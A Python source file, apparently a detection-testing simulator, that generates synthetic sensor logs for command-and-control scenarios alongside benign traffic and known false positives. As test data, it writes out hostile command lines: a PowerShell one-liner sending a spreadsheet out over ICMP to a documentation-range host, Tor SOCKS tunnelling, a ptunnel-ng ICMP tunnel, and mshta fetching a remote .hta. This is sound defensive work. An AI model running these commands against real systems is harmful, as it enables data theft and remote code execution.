@@ -1,0 +1,391 @@
+"""The reference test scenarios, benign background and documented false positives.
+
+Each scenario function fills a :class:`~c2hunt_sim.world.Recorder` with what the sensors on
+a small corporate network (10.20.0.0/16; DNS 10.20.0.53, NTP 10.20.0.123, files 10.20.0.20,
+gateway 10.20.0.1) log while it happens. Attacker infrastructure uses the documentation
+ranges 203.0.113.0/24 and 198.51.100.0/24.
+
+The five reference tests of the T1095 Sysmon detection:
+
+1. ``s1_icmp_large_payload_powershell`` — PowerShell sends 1,400-byte ICMP echo payloads.
+2. ``s2_powershell_socks5_tor`` — PowerShell speaks SOCKS5 to Tor on 127.0.0.1:9050.
+3. ``s3_python_udp_beacon`` — python sends 20 UDP datagrams to 8.8.8.8:4444, 5 s apart.
+4. ``s4_ptunnel_ng_icmp_tunnel`` — ptunnel-ng on Linux: raw ICMP socket, 64-byte payloads
+   at 2 packets/s for 10 minutes.
+5. ``s5_ncat_socks_tor`` — ncat through Tor's SOCKS port 127.0.0.1:9050 (Windows and Linux).
+
+Beyond them: ``benign_background`` (must raise nothing), ``false_positives`` (the
+reference's known false positives, each suppressed by a documented allowlist entry), and
+``x1_dns_tunnel_doh_smb_egress`` / ``x2_web_c2_unusual_process`` for the application-layer
+analytics (AN1228, AN1225).
+"""
+import collections
+
+from c2hunt_sim.world import Host, Recorder
+
+BASE_TIME = 1715677200.0  # 2024-05-14 09:00:00 UTC
+DEFAULT_SEED = 1095
+
+RESOLVER = "10.20.0.53"
+NTP_SERVER = "10.20.0.123"
+FILE_SERVER = "10.20.0.20"
+GATEWAY = "10.20.0.1"
+WEB_PROXY = "10.20.0.8"
+
+SYSTEM = "NT AUTHORITY\\SYSTEM"
+SVCHOST = "C:\\Windows\\System32\\svchost.exe"
+POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+CMD = "C:\\Windows\\System32\\cmd.exe"
+TOR_EXE = "C:\\Users\\%s\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe"
+TOR_FIREFOX = "C:\\Users\\%s\\Desktop\\Tor Browser\\Browser\\firefox.exe"
+CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
+EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
+
+SCENARIOS = collections.OrderedDict()
+
+
+def scenario(function):
+    """Register a scenario function under its name."""
+    SCENARIOS[function.__name__] = function
+    return function
+
+
+def _cmd_parent(rec, host, time, user):
+    return rec.windows_process(host, time, CMD, '"C:\\Windows\\system32\\cmd.exe" ', user)
+
+
+def _tor_listener(rec, host, time, user, client_port, socks_port=9050):
+    """Tor's side of a loopback SOCKS connection: Sysmon/WFP log it as inbound."""
+    tor = rec.windows_service(TOR_EXE % user.split("\\")[-1],
+                              '"%s" -f torrc' % (TOR_EXE % user.split("\\")[-1]), user=user)
+    rec.windows_connection(host, tor, time + 0.001, "tcp", "127.0.0.1", client_port,
+                           src="127.0.0.1", src_port=socks_port, initiated=False)
+
+
+@scenario
+def s1_icmp_large_payload_powershell(rec, t0):
+    host = Host("ws01.corp.example", "10.20.1.11", "windows")
+    user = "CORP\\alice"
+    parent = _cmd_parent(rec, host, t0 - 4.0, user)
+    ps = rec.windows_process(
+        host, t0, POWERSHELL,
+        "powershell.exe -NoProfile -WindowStyle Hidden -Command \"$p=New-Object "
+        "System.Net.NetworkInformation.Ping; $b=[IO.File]::ReadAllBytes('C:\\Users\\alice\\"
+        "Documents\\q2.xlsx'); for($i=0;$i -lt $b.Length;$i+=1400){$p.Send('203.0.113.50',"
+        "1000,$b[$i..($i+1399)])}\"", user, parent=parent)
+    sends = 12
+    for beat in range(sends):
+        rec.windows_connection(host, ps, t0 + 1.0 + 5.0 * beat + rec.rng.uniform(0, 0.2),
+                               "icmp", "203.0.113.50", 0)
+    # The tunnel server answers each 1,400-byte request with a 24-byte acknowledgement.
+    rec.zeek_conn(t0 + 1.0, host.ip, 8, "203.0.113.50", 0, "icmp", duration=55.3,
+                  orig_bytes=1400 * sends, resp_bytes=24 * sends, orig_pkts=sends,
+                  resp_pkts=sends)
+
+
+@scenario
+def s2_powershell_socks5_tor(rec, t0):
+    host = Host("ws02.corp.example", "10.20.1.12", "windows")
+    user = "CORP\\bob"
+    parent = _cmd_parent(rec, host, t0 - 3.0, user)
+    ps = rec.windows_process(
+        host, t0, POWERSHELL,
+        "powershell.exe -nop -c \"$c=New-Object Net.Sockets.TcpClient('127.0.0.1',9050);"
+        "$s=$c.GetStream();$s.Write([byte[]](5,1,0),0,3);$r=New-Object byte[] 2;"
+        "$s.Read($r,0,2)|Out-Null;$h=[Text.Encoding]::ASCII.GetBytes('c2hunttestonion.onion');"
+        "$s.Write([byte[]](5,1,0,3,$h.Length)+$h+[byte[]](1,187),0,7+$h.Length)\"",
+        user, parent=parent)
+    port = rec.windows_connection(host, ps, t0 + 0.8, "tcp", "127.0.0.1", 9050, src="127.0.0.1")
+    _tor_listener(rec, host, t0 + 0.8, user, port)
+
+
+@scenario
+def s3_python_udp_beacon(rec, t0):
+    host = Host("ws03.corp.example", "10.20.1.13", "windows")
+    user = "CORP\\carol"
+    python = "C:\\Users\\carol\\AppData\\Local\\Programs\\Python\\Python312\\python.exe"
+    parent = _cmd_parent(rec, host, t0 - 5.0, user)
+    proc = rec.windows_process(host, t0, python, "python.exe beacon.py 8.8.8.8 4444 --every 5",
+                               user, parent=parent)
+    for beat in range(20):
+        # A new socket per beat: a new source port, so Zeek logs 20 connections.
+        rec.windows_connection(host, proc, t0 + 0.5 + 5.0 * beat + rec.rng.uniform(0, 0.05),
+                               "udp", "8.8.8.8", 4444,
+                               zeek={"orig_bytes": 48, "resp_bytes": 0, "orig_pkts": 1,
+                                     "resp_pkts": 0})
+
+
+@scenario
+def s4_ptunnel_ng_icmp_tunnel(rec, t0):
+    host = Host("lnx04.corp.example", "10.20.2.14", "linux")
+    shell = rec.linux_daemon("/usr/bin/bash", ["-bash"], uid=1000)
+    tunnel = rec.linux_exec(host, t0, "/usr/local/bin/ptunnel-ng",
+                            ["ptunnel-ng", "-p198.51.100.7", "-l2222", "-r127.0.0.1", "-R22"],
+                            uid=0, auid=1000, ppid=shell["pid"])
+    rec.linux_socket(host, t0 + 0.04, tunnel, "inet", "raw", "icmp")
+    # 64-byte payloads both ways at 2 packets/s for 10 minutes: one Zeek ICMP connection.
+    packets = 1200
+    rec.zeek_conn(t0 + 0.05, host.ip, 8, "198.51.100.7", 0, "icmp", duration=599.6,
+                  orig_bytes=64 * packets, resp_bytes=64 * packets, orig_pkts=packets,
+                  resp_pkts=packets)
+
+
+@scenario
+def s5_ncat_socks_tor(rec, t0):
+    win = Host("ws05.corp.example", "10.20.1.15", "windows")
+    user = "CORP\\erin"
+    ncat_path = "C:\\Program Files (x86)\\Nmap\\ncat.exe"
+    parent = _cmd_parent(rec, win, t0 - 2.0, user)
+    ncat = rec.windows_process(
+        win, t0, ncat_path, '"%s" --proxy 127.0.0.1:9050 --proxy-type socks5 203.0.113.66 443'
+        % ncat_path, user, parent=parent)
+    port = rec.windows_connection(win, ncat, t0 + 0.3, "tcp", "127.0.0.1", 9050, src="127.0.0.1")
+    _tor_listener(rec, win, t0 + 0.3, user, port)
+
+    lnx = Host("lnx05.corp.example", "10.20.2.15", "linux")
+    shell = rec.linux_daemon("/usr/bin/bash", ["-bash"], uid=1001)
+    proc = rec.linux_exec(lnx, t0 + 20.0, "/usr/bin/ncat",
+                          ["ncat", "--proxy", "127.0.0.1:9050", "--proxy-type", "socks5",
+                           "203.0.113.66", "443"], uid=1001, auid=1001, ppid=shell["pid"])
+    rec.linux_socket(lnx, t0 + 20.01, proc, "inet", "stream", "tcp")
+    rec.linux_connect(lnx, t0 + 20.02, proc, "127.0.0.1", 9050, nonblocking=True)
+
+
+def _browse(rec, host, proc, start, span, n_tcp, n_quic, destinations):
+    """Browser traffic: Poisson TCP/443 connections and QUIC (UDP/443), mirrored by Zeek."""
+    for _ in range(n_tcp):
+        when = start + rec.rng.uniform(0, span)
+        out_bytes = rec.rng.randint(600, 4000)
+        rec.windows_connection(host, proc, when, "tcp", rec.rng.choice(destinations), 443,
+                               zeek={"service": "ssl", "duration": rec.rng.uniform(0.3, 40.0),
+                                     "orig_bytes": out_bytes,
+                                     "resp_bytes": out_bytes * rec.rng.randint(4, 60)})
+    for _ in range(n_quic):
+        when = start + rec.rng.uniform(0, span)
+        out_bytes = rec.rng.randint(2000, 9000)
+        rec.windows_connection(host, proc, when, "udp", rec.rng.choice(destinations), 443,
+                               zeek={"service": "quic", "duration": rec.rng.uniform(1.0, 30.0),
+                                     "orig_bytes": out_bytes,
+                                     "resp_bytes": out_bytes * rec.rng.randint(3, 30)})
+
+
+@scenario
+def benign_background(rec, t0):
+    span = 1800.0
+    cdn = ["142.250.74.110", "142.250.185.206", "151.101.1.69", "104.16.132.229",
+           "13.107.42.14", "23.45.67.89", "52.84.150.11", "1.1.1.1"]
+    ws = Host("ws20.corp.example", "10.20.1.20", "windows")
+    user = "CORP\\dave"
+    chrome = rec.windows_process(ws, t0, CHROME, '"%s" --profile-directory=Default' % CHROME,
+                                 user)
+    _browse(rec, ws, chrome, t0, span, 40, 10, cdn)
+    edge = rec.windows_process(ws, t0 + 300, EDGE, '"%s" --single-argument' % EDGE, user)
+    _browse(rec, ws, edge, t0 + 300, span - 300, 15, 0, cdn)
+
+    dnscache = rec.windows_service(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k "
+                                   "NetworkService -p -s Dnscache", user="NT AUTHORITY\\NETWORK SERVICE")
+    names = ["www.google.com", "outlook.office365.com", "teams.microsoft.com",
+             "login.microsoftonline.com", "github.com", "update.googleapis.com",
+             "zoom.us", "www.wikipedia.org", "cdn.jsdelivr.net", "slack.com",
+             "ctldl.windowsupdate.com", "fonts.gstatic.com"]
+    for i in range(30):
+        when = t0 + rec.rng.uniform(0, span)
+        name = rec.rng.choice(names)
+        port = rec.windows_connection(ws, dnscache, when, "udp", RESOLVER, 53,
+                                      zeek={"service": "dns", "duration": 0.012,
+                                            "orig_bytes": 30 + len(name),
+                                            "resp_bytes": 46 + len(name) + 16 * (i % 3)})
+        rec.zeek_dns(when, ws.ip, RESOLVER, name, "A" if i % 4 else "AAAA",
+                     answers=["142.250.74.%d" % (i + 10)], orig_p=port)
+
+    w32time = rec.windows_service(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k "
+                                  "LocalService -s W32Time", user="NT AUTHORITY\\LOCAL SERVICE")
+    for when in (t0 + 120.0, t0 + 1020.0):
+        rec.windows_connection(ws, w32time, when, "udp", NTP_SERVER, 123, src_port=123,
+                               zeek={"service": "ntp", "duration": 0.004, "orig_bytes": 48,
+                                     "resp_bytes": 48})
+
+    wuauserv = rec.windows_service(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p "
+                                   "-s wuauserv")
+    for i in range(4):
+        rec.windows_connection(ws, wuauserv, t0 + 600 + 30 * i, "tcp", "13.107.4.50", 443,
+                               zeek={"service": "ssl", "duration": 25.0,
+                                     "orig_bytes": 3000, "resp_bytes": 48000000})
+    delivery = rec.windows_service(SVCHOST, "C:\\Windows\\System32\\svchost.exe -k "
+                                   "NetworkService -p -s DoSvc", user="NT AUTHORITY\\NETWORK SERVICE")
+    rec.windows_connection(ws, delivery, t0 + 640, "udp", "239.255.255.250", 1900)
+
+    teams = rec.windows_process(ws, t0 + 60, "C:\\Program Files\\WindowsApps\\MSTeams_24091."
+                                "214.2846.1452_x64__8wekyb3d8bbwe\\ms-teams.exe",
+                                "ms-teams.exe", user)
+    for port in (3478, 3479, 3480, 3481):
+        rec.windows_connection(ws, teams, t0 + 900 + port % 10, "udp", "52.113.194.132", port,
+                               zeek={"duration": 1500.0, "orig_bytes": 9000000,
+                                     "resp_bytes": 11000000})
+    zoom = rec.windows_process(ws, t0 + 200, "C:\\Users\\dave\\AppData\\Roaming\\Zoom\\bin\\"
+                               "Zoom.exe", '"C:\\Users\\dave\\AppData\\Roaming\\Zoom\\bin\\'
+                               'Zoom.exe"', user)
+    for port in (8801, 8802):
+        rec.windows_connection(ws, zoom, t0 + 1200 + port % 10, "udp", "144.195.36.10", port,
+                               zeek={"duration": 400.0, "orig_bytes": 3000000,
+                                     "resp_bytes": 4500000})
+
+    ping_parent = _cmd_parent(rec, ws, t0 + 700, user)
+    ping = rec.windows_process(ws, t0 + 705, "C:\\Windows\\System32\\PING.EXE",
+                               "ping  10.20.0.1", user, parent=ping_parent)
+    for echo in range(4):
+        rec.windows_connection(ws, ping, t0 + 705.1 + echo, "icmp", GATEWAY, 0)
+    rec.zeek_conn(t0 + 705.1, ws.ip, 8, GATEWAY, 0, "icmp", duration=3.01, orig_bytes=128,
+                  resp_bytes=128, orig_pkts=4, resp_pkts=4)
+
+    system = rec.windows_service("System", "", pid=4)
+    rec.windows_connection(ws, system, t0 + 30, "udp", "10.20.1.255", 137, src_port=137)
+    rec.windows_connection(ws, system, t0 + 31, "udp", "10.20.1.255", 138, src_port=138)
+    rec.windows_connection(ws, system, t0 + 400, "tcp", FILE_SERVER, 445,
+                           zeek={"service": "smb", "duration": 600.0, "orig_bytes": 250000,
+                                 "resp_bytes": 8000000})
+    lsass = rec.windows_service("C:\\Windows\\System32\\lsass.exe",
+                                "C:\\Windows\\system32\\lsass.exe")
+    rec.windows_connection(ws, lsass, t0 + 35, "udp", "10.20.0.10", 88)
+    llmnr = rec.windows_service(SVCHOST, "C:\\Windows\\system32\\svchost.exe -k "
+                                "NetworkService -p -s Dnscache", user="NT AUTHORITY\\NETWORK SERVICE")
+    rec.windows_connection(ws, llmnr, t0 + 36, "udp", "224.0.0.252", 5355)
+    rec.windows_connection(ws, llmnr, t0 + 37, "udp", "224.0.0.251", 5353, src_port=5353)
+
+    # Tor Browser: its firefox talks SOCKS to its own tor.exe on 9150 (allowlisted browser).
+    tor_user = "dave"
+    tor_fx = rec.windows_process(ws, t0 + 1500, TOR_FIREFOX % tor_user,
+                                 '"%s"' % (TOR_FIREFOX % tor_user), user)
+    tor = rec.windows_process(ws, t0 + 1501, TOR_EXE % tor_user, '"%s" -f torrc' %
+                              (TOR_EXE % tor_user), user, parent=tor_fx)
+    rec.windows_connection(ws, tor, t0 + 1503, "tcp", "185.220.101.4", 9001,
+                           zeek={"service": "ssl", "duration": 290.0, "orig_bytes": 90000,
+                                 "resp_bytes": 2500000})
+    for i in range(3):
+        rec.windows_connection(ws, tor_fx, t0 + 1510 + 7 * i, "tcp", "127.0.0.1", 9150,
+                               src="127.0.0.1")
+
+    # The web proxy on 8080 and plain HTTP to a package mirror.
+    rec.zeek_conn(t0 + 50, ws.ip, 50511, WEB_PROXY, 8080, "tcp", service="http", duration=2.0,
+                  orig_bytes=900, resp_bytes=45000)
+
+    # Linux server: ping, chrony, curl, package updates, tcpdump.
+    lnx = Host("lnx20.corp.example", "10.20.2.20", "linux")
+    ping = rec.linux_exec(lnx, t0 + 100, "/usr/bin/ping", ["ping", "-c", "3", GATEWAY],
+                          uid=1000, auid=1000)
+    rec.linux_socket(lnx, t0 + 100.01, ping, "inet", "dgram", "icmp")
+    rec.zeek_conn(t0 + 100.02, lnx.ip, 8, GATEWAY, 0, "icmp", duration=2.0, orig_bytes=168,
+                  resp_bytes=168, orig_pkts=3, resp_pkts=3)
+    chrony = rec.linux_daemon("/usr/sbin/chronyd", ["/usr/sbin/chronyd", "-F", "1"], uid=0)
+    rec.linux_socket(lnx, t0 + 5, chrony, "inet", "dgram", "udp")
+    for i in range(28):  # chrony polls its pool server every 64 s: periodic, but NTP.
+        rec.zeek_conn(t0 + 5 + 64.0 * i + rec.rng.uniform(0, 0.01), lnx.ip, 123,
+                      "162.159.200.1", 123, "udp", service="ntp", duration=0.02,
+                      orig_bytes=48, resp_bytes=48)
+    curl = rec.linux_exec(lnx, t0 + 300, "/usr/bin/curl",
+                          ["curl", "-fsSL", "https://example.org/"], uid=1000, auid=1000)
+    rec.linux_socket(lnx, t0 + 300.01, curl, "inet", "stream", "tcp")
+    rec.linux_connect(lnx, t0 + 300.02, curl, "93.184.216.34", 443)
+    rec.zeek_conn(t0 + 300.02, lnx.ip, 41822, "93.184.216.34", 443, "tcp", service="ssl",
+                  duration=0.4, orig_bytes=700, resp_bytes=3200)
+    apt = rec.linux_exec(lnx, t0 + 900, "/usr/lib/apt/methods/http", ["/usr/lib/apt/methods/http"],
+                         uid=42, auid=4294967295)
+    rec.linux_connect(lnx, t0 + 900.02, apt, "151.101.2.132", 80)
+    rec.zeek_conn(t0 + 900.02, lnx.ip, 41900, "151.101.2.132", 80, "tcp", service="http",
+                  duration=6.0, orig_bytes=1500, resp_bytes=9000000)
+    tcpdump = rec.linux_exec(lnx, t0 + 1200, "/usr/bin/tcpdump",
+                             ["tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap"], uid=0, auid=1000)
+    rec.linux_socket(lnx, t0 + 1200.01, tcpdump, "packet", "raw", "eth_p_all")
+    for i in range(8):
+        name = rec.rng.choice(["deb.debian.org", "security.debian.org", "example.org",
+                               "pool.ntp.org"])
+        rec.zeek_dns(t0 + 90 + 140 * i, lnx.ip, RESOLVER, name, "A",
+                     answers=["151.101.2.%d" % (130 + i)])
+
+
+@scenario
+def false_positives(rec, t0):
+    """The reference's known false positives: a vulnerability scanner, an ICMP network
+    monitor, and a VPN client on a custom UDP port."""
+    span = 1800.0
+    scanner = Host("scan01.corp.example", "10.20.5.10", "windows")
+    nessus = rec.windows_service("C:\\Program Files\\Tenable\\Nessus\\nessusd.exe",
+                                 '"C:\\Program Files\\Tenable\\Nessus\\nessusd.exe"')
+    for i in range(1, 31):
+        target = "10.20.1.%d" % i
+        when = t0 + 2.0 * i
+        rec.windows_connection(scanner, nessus, when, "icmp", target, 0,
+                               zeek={"duration": 0.001, "orig_bytes": 32, "resp_bytes": 32,
+                                     "orig_pkts": 1, "resp_pkts": 1})
+        for port in (161, 137, 1900):
+            rec.windows_connection(scanner, nessus, when + 0.2 + port / 10000.0, "udp",
+                                   target, port, zeek={"orig_bytes": 40, "resp_bytes": 0})
+
+    monitor = Host("mon01.corp.example", "10.20.5.11", "windows")
+    prtg = rec.windows_service("C:\\Program Files (x86)\\PRTG Network Monitor\\PRTG Probe.exe",
+                               '"C:\\Program Files (x86)\\PRTG Network Monitor\\PRTG Probe.exe"')
+    for i in range(30):
+        rec.windows_connection(monitor, prtg, t0 + 10 + 60.0 * i, "icmp", GATEWAY, 0,
+                               zeek={"duration": 0.0009, "orig_bytes": 32, "resp_bytes": 32,
+                                     "orig_pkts": 1, "resp_pkts": 1})
+
+    laptop = Host("lt07.corp.example", "10.20.3.7", "windows")
+    openvpn = rec.windows_service("C:\\Program Files\\OpenVPN\\bin\\openvpn.exe",
+                                  '"C:\\Program Files\\OpenVPN\\bin\\openvpn.exe" --config '
+                                  'corp.ovpn', user="CORP\\frank")
+    rec.windows_connection(laptop, openvpn, t0 + 15, "udp", "198.51.100.20", 1195,
+                           zeek={"duration": span - 20, "orig_bytes": 2400000,
+                                 "resp_bytes": 31000000})
+
+
+@scenario
+def x1_dns_tunnel_doh_smb_egress(rec, t0):
+    """dnscat2-style DNS tunnel, DNS-over-HTTPS from a non-browser, SMB to the internet."""
+    host = Host("ws06.corp.example", "10.20.1.16", "windows")
+    user = "CORP\\grace"
+    for i in range(150):
+        label = "".join(rec.rng.choice("0123456789abcdef") for _ in range(56))
+        qtype = ("TXT", "CNAME", "MX")[i % 3]
+        rec.zeek_dns(t0 + 4.0 * i + rec.rng.uniform(0, 1.0), host.ip, RESOLVER,
+                     "%s.%s.cdn-sync.example-c2.net" % (label[:28], label[28:]), qtype,
+                     answers=["%s.cdn-sync.example-c2.net" % label[:40]] if qtype != "TXT"
+                     else [label[:48]], ttl=0.0)
+    updater = rec.windows_process(host, t0 + 30,
+                                  "C:\\Users\\grace\\AppData\\Local\\Temp\\msupdate.exe",
+                                  "msupdate.exe /silent", user)
+    for i in range(3):
+        rec.windows_connection(host, updater, t0 + 40 + 300 * i, "tcp", "1.1.1.1", 443,
+                               zeek={"service": "ssl", "duration": 2.0, "orig_bytes": 1300,
+                                     "resp_bytes": 5200})
+    system = rec.windows_service("System", "", pid=4)
+    rec.windows_connection(host, system, t0 + 500, "tcp", "198.51.100.99", 445,
+                           zeek={"service": "smb", "duration": 12.0, "orig_bytes": 4200,
+                                 "resp_bytes": 3100})
+
+
+@scenario
+def x2_web_c2_unusual_process(rec, t0):
+    """rundll32 posting data over HTTPS and HTTP on an irregular port."""
+    host = Host("ws07.corp.example", "10.20.1.17", "windows")
+    user = "CORP\\heidi"
+    rundll = rec.windows_process(
+        host, t0, "C:\\Windows\\System32\\rundll32.exe",
+        "rundll32.exe C:\\Users\\heidi\\AppData\\Roaming\\sync.dll,DllRegisterServer", user)
+    for i in range(6):
+        rec.windows_connection(host, rundll, t0 + 10 + 97.0 * i, "tcp", "203.0.113.80", 443,
+                               zeek={"service": "ssl", "duration": 3.0,
+                                     "orig_bytes": 250000, "resp_bytes": 4000})
+    mshta = rec.windows_process(host, t0 + 700, "C:\\Windows\\System32\\mshta.exe",
+                                "mshta.exe http://203.0.113.81:8081/a.hta", user)
+    rec.windows_connection(host, mshta, t0 + 701, "tcp", "203.0.113.81", 8081,
+                           zeek={"service": "http", "duration": 1.0, "orig_bytes": 400,
+                                 "resp_bytes": 38000})
+
+
+def build(name, seed=DEFAULT_SEED):
+    """Run one scenario; returns its Recorder."""
+    if name not in SCENARIOS:
+        raise KeyError("unknown scenario %r; expected one of %s" % (name, ", ".join(SCENARIOS)))
+    rec = Recorder(name, seed)
+    SCENARIOS[name](rec, BASE_TIME + 60.0 * (list(SCENARIOS).index(name)))
+    return rec
